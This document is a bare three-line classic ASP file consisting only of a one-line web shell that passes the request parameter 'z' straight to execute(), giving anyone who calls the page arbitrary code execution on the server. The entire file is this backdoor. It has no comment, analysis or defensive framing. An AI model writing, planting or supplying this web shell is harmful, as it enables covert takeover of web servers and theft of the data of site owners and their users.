<%
execute(request("z"))
%>
